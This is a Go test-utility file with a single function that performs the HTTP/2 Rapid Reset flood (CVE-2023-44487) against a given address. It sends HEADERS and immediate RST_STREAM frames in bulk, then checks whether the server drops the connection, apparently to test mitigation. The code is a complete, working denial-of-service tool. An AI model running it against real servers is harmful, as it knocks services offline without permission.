package testutil

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2RapidReset opens an h2 connection to addr and floods it the way
// CVE-2023-44487 does: HEADERS opening a stream, then RST_STREAM
// cancelling it at once, streams times, in writes of a hundred pairs
// (for authority and path). It returns how many streams it sent and
// whether the server ended the connection (a GOAWAY, a close or a reset)
// within 10 s of the last write. A nil conf speaks h2 over cleartext
// (prior knowledge, h2c).
func H2RapidReset(addr string, conf *tls.Config, authority, path string, streams int) (sent int, cut bool, err error) {
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	var conn net.Conn
	if conf == nil {
		if conn, err = dialer.Dial("tcp", addr); err != nil {
			return 0, false, err
		}
	} else {
		conf = conf.Clone()
		conf.NextProtos = []string{"h2"}
		tc, err := tls.DialWithDialer(dialer, "tcp", addr, conf)
		if err != nil {
			return 0, false, err
		}
		if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
			tc.Close()
			return 0, false, fmt.Errorf("ALPN chose %q", p)
		}
		conn = tc
	}
	defer conn.Close()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", authority}, {":path", path}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	w := http2.NewFramer(&out, nil)
	_ = w.WriteSettings()
	for sent < streams {
		for range 100 {
			id := uint32(2*sent + 1)
			_ = w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: true})
			_ = w.WriteRSTStream(id, http2.ErrCodeCancel)
			sent++
		}
		_ = conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if _, err := conn.Write(out.Bytes()); err != nil {
			return sent, true, nil
		}
		out.Reset()
	}
	fr := http2.NewFramer(io.Discard, conn)
	_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				return sent, false, nil
			}
			return sent, true, nil
		}
		if _, ok := f.(*http2.GoAwayFrame); ok {
			return sent, true, nil
		}
	}
}
